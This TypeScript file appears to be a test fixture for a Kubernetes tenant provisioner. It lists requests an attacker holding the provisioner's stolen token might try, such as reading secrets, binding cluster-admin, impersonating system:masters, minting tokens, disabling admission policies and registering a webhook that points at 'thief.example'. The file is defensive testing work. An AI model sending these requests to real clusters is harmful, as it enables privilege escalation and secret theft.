import type { Attempt } from './attempt.ts';

/** Where a thief is let loose: an environment of ours, a namespace of somebody else, a certificate request. */
export interface Scene {
  environment: string;
  foreign: string;
  signingRequest: string;
}

/** What a thief of the provisioner's token wants, and every way that he tries. */
export interface Goal {
  goal: string;
  ways: (scene: Scene) => Attempt[];
}

const rbac = '/apis/rbac.authorization.k8s.io/v1';
const admission = '/apis/admissionregistration.k8s.io/v1';
const fieldManager = 'bailiwick-provisioner';
const ofNamespace = (namespace: string, plural: string) => `/api/v1/namespaces/${namespace}/${plural}`;
const bindingsOf = (namespace: string) => `${rbac}/namespaces/${namespace}/rolebindings`;

// As strict as Pod Security wants it, so that nothing but the right is missing.
const pod = {
  automountServiceAccountToken: false,
  securityContext: { runAsNonRoot: true, runAsUser: 65_535, seccompProfile: { type: 'RuntimeDefault' } },
  containers: [
    {
      name: 'shell',
      image: 'registry.k8s.io/pause:3.10',
      securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } },
    },
  ],
};
const labels = (namespace: string) => {
  const [team = '', environment = ''] = namespace.split('-');
  return {
    'app.kubernetes.io/managed-by': 'bailiwick',
    'bailiwick.dev/team': team,
    'bailiwick.dev/environment': environment,
  };
};
const user = (name: string) => ({ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name });
function binding(namespace: string, role: string, subjects: object[] = [user('oidc:mallory')]) {
  const roleRef = { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role };
  const metadata = { name: 'stolen', labels: labels(namespace) };
  return { metadata, roleRef, subjects };
}
const post = (path: string, body: object): Attempt => ({ method: 'POST', path, body });
const get = (path: string): Attempt => ({ method: 'GET', path });
const remove = (path: string): Attempt => ({ method: 'DELETE', path });
const merge = (path: string, body: object): Attempt => ({
  method: 'PATCH',
  path,
  body,
  patch: 'merge-patch+json',
});
const apply = (path: string, apiVersion: string, kind: string, body: object): Attempt => ({
  method: 'PATCH',
  path: `${path}?fieldManager=${fieldManager}&force=true`,
  body: { apiVersion, kind, ...body },
  patch: 'apply-patch+yaml',
});

/** The twelve goals of the design. */
export const stolenTokenGoals: readonly Goal[] = [
  {
    goal: 'read a secret',
    ways: ({ environment, foreign }) => [
      get('/api/v1/secrets'),
      get(ofNamespace(environment, 'secrets')),
      get(ofNamespace('kube-system', 'secrets')),
      get(`${ofNamespace(foreign, 'secrets')}/treasure`),
    ],
  },
  {
    goal: 'bind cluster-admin',
    ways: ({ environment }) => [
      post(bindingsOf(environment), binding(environment, 'cluster-admin')),
      post(`${rbac}/clusterrolebindings`, binding('', 'cluster-admin')),
      apply(
        `${bindingsOf(environment)}/stolen`,
        'rbac.authorization.k8s.io/v1',
        'RoleBinding',
        binding(environment, 'cluster-admin'),
      ),
    ],
  },
  {
    goal: 'bind in kube-system',
    ways: ({ foreign }) =>
      ['kube-system', 'default', 'bailiwick-system', foreign].map((namespace) =>
        post(bindingsOf(namespace), binding(namespace, 'bailiwick-admin')),
      ),
  },
  {
    goal: 'create a pod',
    ways: ({ environment }) => [
      post(ofNamespace(environment, 'pods'), { metadata: { name: 'stolen' }, spec: pod }),
      post(ofNamespace('kube-system', 'pods'), { metadata: { name: 'stolen' }, spec: pod }),
      post(`/apis/batch/v1/namespaces/${environment}/jobs`, {
        metadata: { name: 'stolen' },
        spec: { template: { spec: { ...pod, restartPolicy: 'Never' } } },
      }),
    ],
  },
  {
    goal: 'approve a certificate',
    ways: ({ signingRequest }) => {
      const path = `/apis/certificates.k8s.io/v1/certificatesigningrequests/${signingRequest}/approval`;
      const condition = { type: 'Approved', status: 'True', reason: 'Stolen' };
      return [merge(path, { status: { conditions: [condition] } })];
    },
  },
  {
    goal: 'write a webhook',
    ways: () => {
      const webhook = {
        name: 'stolen.bailiwick.dev',
        clientConfig: { url: 'https://thief.example/' },
        sideEffects: 'None',
        admissionReviewVersions: ['v1'],
      };
      return ['mutatingwebhookconfigurations', 'validatingwebhookconfigurations'].map((plural) =>
        post(`${admission}/${plural}`, { metadata: { name: 'stolen' }, webhooks: [webhook] }),
      );
    },
  },
  {
    goal: 'impersonate',
    ways: () =>
      [
        { 'impersonate-user': 'root', 'impersonate-group': 'system:masters' },
        { 'impersonate-user': 'oidc:somebody' },
        { 'impersonate-user': 'system:serviceaccount:kube-system:namespace-controller' },
      ].map((headers) => ({
        method: 'POST' as const,
        path: '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
        body: { spec: { nonResourceAttributes: { verb: 'get', path: '/version' } } },
        headers,
      })),
  },
  {
    goal: 'mint a token',
    ways: ({ environment }) => [
      post(`${ofNamespace(environment, 'serviceaccounts')}/default/token`, { spec: {} }),
      post(`${ofNamespace('kube-system', 'serviceaccounts')}/namespace-controller/token`, { spec: {} }),
      post(`${ofNamespace('bailiwick-system', 'serviceaccounts')}/provisioner/token`, { spec: {} }),
      post(ofNamespace(environment, 'secrets'), {
        metadata: { name: 'stolen', annotations: { 'kubernetes.io/service-account.name': 'default' } },
        type: 'kubernetes.io/service-account-token',
      }),
    ],
  },
  {
    goal: 'label a foreign namespace',
    ways: ({ foreign }) => {
      const metadata = { labels: labels(foreign) };
      const path = `/api/v1/namespaces/${foreign}`;
      const privileged = { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } };
      return [
        merge(path, { metadata }),
        merge(path, { metadata: privileged }),
        merge('/api/v1/namespaces/kube-system', { metadata }),
        merge(`${path}/status`, { metadata }),
        apply(path, 'v1', 'Namespace', { metadata }),
      ];
    },
  },
  {
    goal: 'delete a foreign namespace',
    ways: ({ foreign }) => [
      remove(`/api/v1/namespaces/${foreign}`),
      remove('/api/v1/namespaces/bailiwick-system'),
    ],
  },
  {
    goal: 'edit its own role',
    ways: () => {
      const everything = { apiGroups: ['*'], resources: ['*'], verbs: ['*'] };
      return [
        merge(`${rbac}/clusterroles/bailiwick-provisioner`, { rules: [everything] }),
        merge(`${rbac}/clusterroles/bailiwick-admin`, { rules: [everything] }),
        post(`${rbac}/clusterroles`, { metadata: { name: 'stolen' }, rules: [everything] }),
        remove(`${rbac}/clusterroles/bailiwick-viewer`),
        merge(`${rbac}/clusterrolebindings/bailiwick-provisioner`, { subjects: [user('oidc:mallory')] }),
      ];
    },
  },
  {
    goal: 'edit the admission policies',
    ways: () => {
      const fence = 'bailiwick-portal-fence';
      return [
        merge(`${admission}/validatingadmissionpolicies/${fence}`, { spec: { failurePolicy: 'Ignore' } }),
        remove(`${admission}/validatingadmissionpolicies/${fence}`),
        merge(`${admission}/validatingadmissionpolicybindings/${fence}`, {
          spec: { validationActions: ['Audit'] },
        }),
        remove(`${admission}/validatingadmissionpolicybindings/${fence}`),
      ];
    },
  },
];

/** Ways around the fence that none of the twelve goals names: a right for himself, a door in our own namespace. */
export const furtherWays: readonly Goal[] = [
  {
    goal: 'give a tenant role to everybody or to himself',
    ways: ({ environment }) => [
      post(
        bindingsOf(environment),
        binding(environment, 'bailiwick-admin', [
          { apiGroup: 'rbac.authorization.k8s.io', kind: 'Group', name: 'system:authenticated' },
        ]),
      ),
      post(
        bindingsOf(environment),
        binding(environment, 'bailiwick-admin', [user('system:serviceaccount:bailiwick-system:provisioner')]),
      ),
      post(
        bindingsOf(environment),
        binding(environment, 'bailiwick-secrets', [
          { kind: 'ServiceAccount', name: 'provisioner', namespace: 'bailiwick-system' },
        ]),
      ),
    ],
  },
  {
    goal: 'open our own namespace',
    ways: ({ environment }) => [
      merge(`/api/v1/namespaces/${environment}`, {
        metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } },
      }),
      merge(`/api/v1/namespaces/${environment}`, { metadata: { labels: { 'bailiwick.dev/team': 'other' } } }),
      post(`/apis/networking.k8s.io/v1/namespaces/${environment}/networkpolicies`, {
        metadata: { name: 'stolen', labels: labels(environment) },
        spec: { podSelector: {}, ingress: [{}] },
      }),
    ],
  },
];
